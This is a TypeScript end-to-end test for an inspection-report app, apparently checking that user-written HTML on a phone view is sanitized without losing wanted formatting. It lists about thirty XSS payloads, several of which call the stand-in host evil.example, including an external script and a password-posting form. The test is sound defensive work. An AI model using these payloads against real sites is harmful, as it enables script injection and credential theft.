import { expect, it } from 'vitest';
import { buildPagePath } from '#presentation/ui/navigation/addresses.ts';
import { openSite } from './support/site.ts';

const site = openSite({ processes: ['inspection'] });

/** HTML that has compromised other applications or violates a content policy. The phone must report no problems. */
const HOSTILE = [
  '<script>window.hacked=1</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=window.hacked=1>',
  '<img src="javascript:window.hacked=1">',
  '<img src="https://evil.example/pixel.png" alt="a picture from elsewhere">',
  '<svg onload=window.hacked=1><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:window.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="data:text/html,<script>window.hacked=1</script>"></object>',
  '<a href="javascript:window.hacked=1">one</a>',
  '<a href="&#106;avascript&colon;window.hacked=1">two</a>',
  '<a href=" java\nscript:window.hacked=1">three</a>',
  '<a href="data:text/html,<script>window.hacked=1</script>">four</a>',
  '<form action=//evil.example><input name=password><button>send</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<div style="background:url(//evil.example/x.png);position:fixed;inset:0">over everything</div>',
  '<p style="color: expression(window.hacked=1)">expression</p>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  '<template><img src=x onerror=window.hacked=1></template>',
  '<textarea><img src=x onerror=window.hacked=1></textarea>',
  '<p id=root name=root data-style="color:red" class="fixed inset-0" onclick="window.hacked=1">clobbered</p>',
  '<<img src=x onerror=window.hacked=1>',
  '<img """><script>window.hacked=1</script>">',
  '<!--><img src=x onerror=window.hacked=1>-->',
].join('\n');
const WANTED =
  '<p style="color: rgb(200, 0, 0); text-align: center"><strong>Bold</strong> and red</p>' +
  '<p style="color: rgb(250, 250, 250)">As good as white</p>' +
  '<table><tbody><tr><td style="width: 600px">A wide table</td></tr></tbody></table>' +
  '<ul><li>One</li></ul><p><a href="https://example.com">A link</a></p><p>The last words</p>';

it('shows user-written HTML without its effects on the page', async () => {
  const zhangwei = await site.colleague('zhangwei');
  const { instId } = await zhangwei.start('inspection', {
    ...{ title: 'A report from elsewhere', safe: 'yes', report: HOSTILE + WANTED },
    signature: await zhangwei.upload('signature.png'),
    address: JSON.stringify({ province: 'P', city: 'C', county: 'D', address: 'A' }),
  });
  const phone = await site.phone({ account: 'zhangwei', language: 'en-US', theme: 'light' });
  const { page } = phone;
  const elsewhere: string[] = [];
  page.on('request', (request) => void (request.url().includes('evil.example') && elsewhere.push(request.url())));
  await phone.open(buildPagePath('instanceDetail', { instId }));
  const text = page.locator('.rich-text');
  await text.getByText('The last words').waitFor();
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(elsewhere).toEqual([]);
  const left = await text.evaluate((root) => ({
    tags: [...new Set([...root.querySelectorAll('*')].map(({ localName }) => localName))].toSorted(),
    attributes: [...new Set([...root.querySelectorAll('*')].flatMap((each) => each.getAttributeNames()))].toSorted(),
    links: [...root.querySelectorAll('a')].map(({ textContent, href, rel }) =>
      [textContent, href, rel].join(' ').trim(),
    ),
  }));
  expect(
    left.tags.filter((tag) => /^(?:script|style|iframe|object|svg|math|form|input|link|base|meta)$/u.test(tag)),
  ).toEqual([]);
  expect(left.attributes.filter((name) => /^(?:on|data-|id$|name$)/u.test(name))).toEqual([]);
  expect(left.links).toEqual([
    ...['one', 'two', 'three', 'four'],
    'A link https://example.com/ noopener noreferrer nofollow',
  ]);
  const red = text.getByText('and red');
  expect(await red.evaluate((line) => [getComputedStyle(line).color, getComputedStyle(line).textAlign])).toEqual([
    'rgb(200, 0, 0)',
    'center',
  ]);
  // White text would be unreadable on white, so it is shown in our own color.
  expect(await text.getByText('As good as white').evaluate((line) => line.style.color)).toBe('');
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
});
